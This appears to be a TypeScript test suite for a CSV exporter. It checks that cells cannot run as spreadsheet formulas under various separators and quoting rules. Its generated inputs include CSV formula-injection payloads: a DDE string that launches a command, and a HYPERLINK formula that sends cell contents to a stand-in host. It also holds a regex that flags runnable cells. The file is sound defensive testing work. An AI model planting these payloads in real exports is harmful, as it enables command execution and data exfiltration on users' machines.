import { csvOf, type Separator } from '~/lib/csv';
import { record } from './record';

/** What a spreadsheet takes for a formula, or what hides one. The wide forms count where people type Chinese or Japanese. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const hiding = ['', '\t', '\r', '\n', '\0', ' ', '\u00a0', '"', '""', '\u200b', '\ufeff', '\v'];
/** What may follow, with everything in it that the format itself has a meaning for. */
const bodies = [
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://x.example/?"&A1,"Open")',
  '1,2,3',
  'SUM(A1:A9)\r\n=1+1',
];
/** What may go before it, where another reader than ours begins another cell or row. */
const openings = ['', 'a;', 'a\t', 'a\n', 'a\r\n', 'a\r', 'a";', '";', 'a,b;c;', 'a;"', '"a";'];

/** Phone numbers, and what only looks like one. */
const phones = ['+34612345678', '+1=cmd', '+34612345678=1', '+ 1-1', '+12345678 SUM(A1)'];

const formulas = signs.flatMap((sign) =>
  hiding.flatMap((hidden) =>
    openings.flatMap((opening) => bodies.map((body) => `${opening}${hidden}${sign}${body}`)),
  ),
);
const cases = [...formulas, ...phones];

/** How a program reads such a file: by what it ends a cell, and whether a quote counts in the middle of one. */
interface Reading {
  /** What the file was written with. */
  readonly written: Separator;
  readonly separator: ',' | ';' | '\t';
  readonly quotes: 'at the start of a cell' | 'anywhere';
}
const readings = ([',', ';'] as const).flatMap((written) =>
  ([',', ';', '\t'] as const).flatMap((separator) =>
    (['at the start of a cell', 'anywhere'] as const).map((quotes): Reading => ({
      written,
      separator,
      quotes,
    })),
  ),
);

/** The cells of a file, row after row. */
function rowsIn(file: string, { separator, quotes }: Omit<Reading, 'written'>): string[][] {
  const text = file.replace(/^\uFEFF/, '');
  const rows = [['']];
  let [isQuoted, isFresh] = [false, true];
  const cells = (): string[] => rows.at(-1) ?? [];
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at);
    const isDoubled = isQuoted && sign === '"' && text.charAt(at + 1) === '"';
    if (isDoubled) at += 1;
    const isQuote = sign === '"' && !isDoubled && (isQuoted || isFresh || quotes === 'anywhere');
    isFresh = false;
    if (isQuote) isQuoted = !isQuoted;
    else if (!isQuoted && sign === separator) {
      cells().push('');
      isFresh = true;
    } else if (!isQuoted && /[\r\n]/.test(sign)) {
      rows.push(['']);
      isFresh = true;
    } else cells()[cells().length - 1] += sign;
  }
  return rows.filter((row) => row.join('') !== '');
}

/** Whether a spreadsheet would run it: what one may strip before it looks is stripped here too. A spaced phone number has nothing to run. */
const runs = (cell: string): boolean =>
  !/^\+(?=[^ ]* )[0-9 ]{8,20}$/.test(cell) &&
  (/^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n\0]/.test(cell));
const runningIn = (text: string, reading: Reading): readonly string[] =>
  rowsIn(csvOf([['Ann', text, 'Bob']], reading.written), reading)
    .flat()
    .filter(runs);

it.each(readings)(
  'S4 a file by $written in a spreadsheet that reads by $separator, quotes $quotes, runs nothing',
  (reading) => {
    expect(cases.filter((text) => runningIn(text, reading).length > 0)).toEqual([]);
  },
);

it.each(cases.filter((_, at) => at % 97 === 0))(
  'S4 %j is read as it was written, with marks before signs',
  (text) => {
    const [[before, cell, after, ...more] = []] = rowsIn(csvOf([['Ann', text, 'Bob']], ','), {
      separator: ',',
      quotes: 'at the start of a cell',
    });
    expect({ before, after, more }).toEqual({ before: 'Ann', after: 'Bob', more: [] });
    expect(cell?.replaceAll("'", '')).toBe(text.replaceAll('\0', ''));
  },
);

it('S4 counts the cells that a spreadsheet would run', () => {
  // Without the marks each of them would run somewhere.
  const bare = (text: string): string => `Ann,"${text.replaceAll('"', '""')}",Bob\r\n`;
  const dangerous = cases.filter((text) =>
    readings.some((reading) => rowsIn(bare(text), reading).flat().some(runs)),
  );
  expect(dangerous).toHaveLength(cases.length);
  const run = cases.filter((text) => readings.some((reading) => runningIn(text, reading).length > 0));
  record('S4', 'cells', { figure: `${run.length} of ${cases.length}`, isKept: run.length === 0 });
  expect(run).toEqual([]);
});
